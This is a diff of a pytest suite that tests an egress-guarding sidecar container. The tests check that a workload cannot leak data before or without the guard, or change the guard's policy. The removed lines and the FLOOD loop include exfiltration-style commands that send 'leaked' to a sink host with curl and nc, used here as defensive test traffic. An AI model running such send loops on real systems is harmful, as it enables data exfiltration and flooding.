@@ -13,13 +13,11 @@ import pytest
 
 from lab import plan
 from lab.engine import IMAGE, Engine, engine
-from lab.guarded import DIRECTLY, pinned, reaches
+from lab.guarded import ADDRESS, DIRECTLY, SEND, pinned, reaches, show_leak
 from lab.internet import Internet
-from lab.processes import check, wait_until
+from lab.processes import check
 from lab.sandgate import REPOSITORY, allowing
 
-SEND = f"curl -s -m 1 tftp://{plan.SINK4}:4444/leaked; echo leaked | nc -w 1 {plan.SINK4} 4444"
-"""To a sink, as a datagram and over TCP."""
 FLOOD = ("/bin/sh", "-c", f"trap 'exit 0' TERM; while true; do {SEND}; done")
 REMADE = ("up", "--detach", "--force-recreate", "--timeout", "1")
 """What the page on containers says that is to be done when one of the two has ended."""
@@ -86,22 +84,8 @@ def project(internet: Internet, docker: Engine, tmp_path: Path) -> Iterator[Proj
         made.down()
 
 
-def leaks(internet: Internet, docker: Engine) -> None:
-    """Shows that the workload's first instruction sends, where nobody guards it."""
-    free = docker.docker("run", "--detach", "--cap-drop", "ALL", IMAGE, *FLOOD)
-    services: set[str] = set()
-
-    def arrived() -> bool:
-        services.update(arrival.service for arrival in internet.sinks.arrivals() if "leaked" in arrival.data)
-        return services == {"tcp-sink", "udp-sink"}
-
-    wait_until(arrived, "what is sent without a sidecar", 30)
-    docker.docker("rm", "--force", free)
-    internet.forget()
-
-
 def test_workload_is_guarded_from_its_first_instruction(internet: Internet, docker: Engine, project: Project) -> None:
-    leaks(internet, docker)
+    show_leak(internet, docker, *FLOOD)
     project.up()
     workload, sidecar = project.container("workload"), project.container("sandgate")
     assert reaches(docker, workload, plan.ALLOWED), docker.logs(sidecar)
@@ -114,7 +98,7 @@ def test_workload_is_guarded_from_its_first_instruction(internet: Internet, dock
     began = docker.inspect(workload, "{{.State.StartedAt}}")
     assert datetime.fromisoformat(attached) < datetime.fromisoformat(began[:26] + "+00:00")
     # The API is nobody's: neither the workload's nor that of other containers.
-    address = docker.inspect(sidecar, "{{.NetworkSettings.IPAddress}}")
+    address = docker.inspect(sidecar, ADDRESS)
     change = ("-X", "PATCH", "-d", f'[{{"action": "allow", "target": "{plan.DENIED}"}}]')
     asked = docker.run(workload, "curl", "-sS", "-m", "4", *change, "http://127.0.0.1:18080/policy")
     assert "forbidden" in asked.stdout, asked
@@ -125,7 +109,7 @@ def test_workload_is_guarded_from_its_first_instruction(internet: Internet, dock
 
 
 def test_workload_does_not_begin_without_the_sidecar(internet: Internet, docker: Engine, tmp_path: Path) -> None:
-    leaks(internet, docker)
+    show_leak(internet, docker, *FLOOD)
     project = Project(docker, tmp_path, {"defaultAction": "deny", "egress": [{"action": "allow", "target": "a b"}]})
     try:
         done = project.compose("up", "--detach")
@@ -138,7 +122,7 @@ def test_workload_does_not_begin_without_the_sidecar(internet: Internet, docker:
 
 @pytest.mark.attack("T8", "floods while its sidecar of deploy/compose.yaml is killed and begins anew", stopped_by="kernel")
 def test_sidecar_that_is_killed(internet: Internet, docker: Engine, project: Project) -> None:
-    leaks(internet, docker)
+    show_leak(internet, docker, *FLOOD)
     project.up()
     workload, sidecar = project.container("workload"), project.container("sandgate")
     assert reaches(docker, workload, plan.ALLOWED)
